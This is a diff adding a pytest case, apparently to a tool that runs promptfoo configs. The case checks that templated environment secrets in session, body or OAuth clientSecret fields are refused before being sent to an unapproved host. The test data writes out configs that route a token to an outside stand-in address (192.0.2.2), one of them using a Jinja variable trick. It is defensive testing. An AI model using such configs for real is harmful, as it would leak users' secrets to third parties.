@@ -457,6 +457,39 @@ async def test_a_variable_that_may_be_read_is_sent_to_no_host_that_nobody_agreed
     )
 
 
+@pytest.mark.parametrize(
+    ("key", "given"),
+    [
+        (
+            "session",
+            "{url: 'http://192.0.2.2:9/', headers: {X-Trace: '{{ env.MY_TOKEN }}'}, responseParser: 'json.id'}",
+        ),
+        (
+            "session",
+            "{url: 'http://192.0.2.2:9/', body: {t: '{% set k = env.MY_TOKEN %}{{ k }}'}, responseParser: 'json.id'}",
+        ),
+        (
+            "auth",
+            "{type: oauth, grantType: client_credentials, tokenUrl: 'http://192.0.2.2:9/', clientId: me, "
+            "clientSecret: '{{ env.MY_TOKEN }}'}",
+        ),
+    ],
+)
+async def test_nor_to_where_a_session_begins_or_it_signs_in(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, key: str, given: str
+) -> None:
+    """The endpoint itself may be this machine's, for which nothing is asked."""
+    monkeypatch.setenv("MY_TOKEN", "sekret-0123456789")
+    (tmp_path / "promptfooconfig.yaml").write_text(
+        "prompts: [hi]\nproviders: [{id: 'http://127.0.0.1:9/', label: bot, config: {method: POST, body: {q: a}, "
+        f"maxRetries: 0, {key}: {given}}}}}]\ntests: [{{assert: [{{type: contains, value: hi}}]}}]\n",
+        "utf-8",
+    )
+    (row,) = (await ran(tmp_path, agreed=["read the environment variable MY_TOKEN"])).attempts()
+    assert row.outcome == "error"
+    assert row.message.startswith(f"needs trust: send a secret (agents.bot.config.{key}) to 192.0.2.2")
+
+
 async def test_no_judge_is_asked_without_variables_of_an_env_file_that_may_not_be_read(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
